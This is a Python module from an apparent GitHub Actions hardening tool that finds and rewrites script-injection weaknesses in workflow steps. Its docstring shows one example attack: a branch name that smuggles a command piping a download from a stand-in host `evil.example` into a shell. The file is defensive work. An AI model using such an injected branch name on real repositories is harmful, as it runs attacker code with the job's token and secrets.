"""Value of an expression runs as code in a script

Why. The runner pastes what `${{ }}` stands for into a script before a shell reads it. A title of an issue, a name of a
branch or an input that holds quotes and commands is then no text but part of the program.

Exploited. Someone opens a pull request from a branch called `x";curl${IFS}evil.example|sh;"`. The job runs that
command with its token and secrets. No review is needed for it, and no code of the pull request has to run.

Fix. The expression becomes a variable of the step (`env`), and the script reads the variable, in quotes that keep its
value one piece of text. Where a value may be several words on purpose, the variable stays without quotes: it can no
longer run anything, but is still split. Values that a script hands to another program as code (`python -c`, `jq`,
`ssh`, `eval`) stay code whatever is quoted: these are reported. At the default, what others can set is a finding; with
the preset strict, every expression. What else the event says moves along in a script that is rewritten, so that nobody
who reads it has to ask which of its expressions are harmless.

Risk. Runtime: a value that was shell syntax on purpose, such as `"a b"` with its quotes or `$HOME`, is text from now
on.

References.
- https://docs.github.com/en/actions/concepts/security/script-injections
- https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks
- https://securitylab.github.com/resources/github-actions-untrusted-input/
"""

from __future__ import annotations

from collections.abc import Iterator

from harden.github.contexts import Origin
from harden.github.findings import Plan, fixed, reported
from harden.github.injection import SINKS, Weakness, scripts_of, weaknesses
from harden.github.repository import Repository
from harden.github.step import Step
from harden.model import Finding, Risk
from harden.settings import Preset
from harden.transform import step, transform

NOTE = "A value that is code on purpose, such as quotes or `$HOME` in a shell, is plain text from now on"
WHO = {
    Origin.ANYONE: "Anyone can set",
    Origin.BRANCH: "Whoever names a branch or tag can set",
    Origin.INPUT: "Whoever starts or calls this can set",
    Origin.PASSED: "An earlier step or job can set",
}


@transform(
    step("run", *SINKS),
    zizmor=("template-injection",),
    actionlint=("expression",),
    scorecard=("Dangerous-Workflow",),
)
def check(step: Step, repository: Repository) -> Iterator[Finding]:
    strict = repository.settings.preset is Preset.STRICT
    found = (weakness for script in scripts_of(step) for weakness in weaknesses(script, strict=strict))
    for weakness in found:
        message = _message(weakness)
        if not weakness.changes:
            yield reported(weakness.place, message, weakness.reason)
            continue
        title = f"Pass {_listed(weakness)} to the script as {'variables' if _several(weakness) else 'a variable'}"
        if weakness.is_remark:
            title = f"Only name {_listed(weakness)} in the comment"
        yield fixed(weakness.place, message, Plan(title, weakness.changes, Risk.RUNTIME, _note(weakness)))


def _note(weakness: Weakness) -> str:
    """What the fix may change."""
    if weakness.is_remark:
        return "The comment no longer shows the value in the log"
    kept = _quoted(weakness.split)
    note = f"{NOTE}; {kept} may be several words on purpose and can still be split" if kept else NOTE
    beside = _quoted(weakness.beside)
    return f"{note}; what else the event says moves along: {beside}" if beside else note


def _quoted(names: tuple[str, ...]) -> str:
    return " and ".join(f"`{name}`" for name in names)


def _names(weakness: Weakness) -> list[str]:
    found = (expression for expression, value in weakness.expressions if value.origin is weakness.origin)
    return list(dict.fromkeys(f"`{' '.join(one.text.split())}`" for one in found))


def _several(weakness: Weakness) -> bool:
    return len({" ".join(one.text.split()) for one, _ in weakness.expressions}) > 1


def _listed(weakness: Weakness) -> str:
    *first, last = _names(weakness)
    return f"{', '.join(first)} and {last}" if first else last


def _message(weakness: Weakness) -> str:
    who = WHO.get(weakness.origin)
    several = len(_names(weakness)) > 1
    if who is None:
        return f"Script holds {_listed(weakness)} instead of {'variables' if several else 'a variable'}"
    return f"{who} {_listed(weakness)}, {'which run' if several else 'which runs'} as code in the script"
